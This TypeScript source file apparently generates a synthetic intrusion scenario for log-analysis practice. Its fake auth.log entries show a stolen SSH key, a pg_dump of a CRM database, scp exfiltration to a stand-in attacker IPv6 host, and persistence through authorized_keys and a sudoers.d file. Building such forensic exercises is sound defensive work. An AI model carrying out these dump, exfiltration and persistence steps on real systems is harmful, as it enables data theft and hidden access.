import type { ExampleFile } from "../examples/files.ts";
import { createRandom, type Random } from "../examples/random.ts";
import { createLines, type Lines, scatter, syslogStamp, utc } from "./lines.ts";

const from = utc("2025-09-20 00:00:00");
const to = utc("2025-09-21 00:00:00");
const strike = utc("2025-09-20 02:40:00");
const home = "2001:db8:77::12";
const attacker = "2001:db8:bad::66";
const key = "ssh2: ED25519 SHA256:k7";

/**
 * A stolen key: by night and by IPv6 to the bastion, over it to a database, which is dumped and copied away, and from there to the next one. Keys and
 * sudo rules stay behind. By day the owner of the key goes the same way.
 */
export function serversIncident(): ExampleFile[] {
  const random = createRandom(920);
  return [
    { path: "organisation.yml", content: organisation },
    { path: "evidence/bast1/auth.log", content: bastion(random) },
    { path: "evidence/db1/auth.log", content: firstDatabase() },
    { path: "evidence/db2/auth.log", content: secondDatabase() },
  ];
}

type Add = (ms: number, text: string) => void;

function machine(name: string, write: (add: Add) => void): string {
  const log: Lines = createLines();
  const add: Add = (ms, text) => log.add(ms, `${syslogStamp(ms)} ${name} ${text}`);
  for (let ms = from; ms < to; ms += 600_000)
    add(ms, "CRON[1211]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)");
  write(add);
  return log.text();
}

const accepted = (add: Add, ms: number, source: string) =>
  add(ms, `sshd[9100]: Accepted publickey for olga from ${source} port 50022 ${key}`);
const sudo = (add: Add, ms: number, command: string, user = "root") =>
  add(ms, `sudo:     olga : TTY=pts/1 ; PWD=/tmp ; USER=${user} ; COMMAND=${command}`);
const days = ["07", "09", "12", "15"].map((hour) => utc(`2025-09-20 ${hour}:05:00`));

const bastion = (random: Random) =>
  machine("bast1", (add) => {
    for (const ms of days) accepted(add, ms, home);
    scatter(random, 300, from, to, (ms) =>
      add(
        ms,
        `sshd[${random.between(1000, 9000)}]: Invalid user ${random.pick(["admin", "test", "oracle"])} from ${random.pick(["61.177.172.10", "2001:db8:f00::1"])} port ${random.between(30_000, 60_000)}`,
      ),
    );
    accepted(add, strike, attacker);
  });

const firstDatabase = () =>
  machine("db1", (add) => {
    for (const ms of days) {
      accepted(add, ms + 60_000, "10.17.0.4");
      sudo(add, ms + 90_000, "/usr/bin/systemctl status postgresql");
    }
    accepted(add, strike + 120_000, "10.17.0.4");
    sudo(add, strike + 200_000, "/usr/bin/pg_dump -Fc crm -f /tmp/.c.dump", "postgres");
    sudo(add, strike + 600_000, "/usr/bin/scp /tmp/.c.dump x@[2001:db8:bad::99]:/d/");
    sudo(add, strike + 700_000, "/usr/bin/tee -a /root/.ssh/authorized_keys");
    sudo(add, strike + 720_000, "/usr/bin/tee /etc/sudoers.d/90-backup");
  });

const secondDatabase = () =>
  machine("db2", (add) => {
    accepted(add, strike + 900_000, "10.17.0.5");
    sudo(add, strike + 930_000, "/usr/bin/tee -a /root/.ssh/authorized_keys");
  });

const organisation = `name: Software house
timeZone: UTC
internalNetworks: [10.17.0.0/16, "2001:db8:77::/48"]
assets:
  - { name: bast1, addresses: [10.17.0.4], role: bastion }
  - { name: db1, addresses: [10.17.0.5], role: database server, critical: true }
  - { name: db2, addresses: [10.17.0.6], role: database server, critical: true }
`;
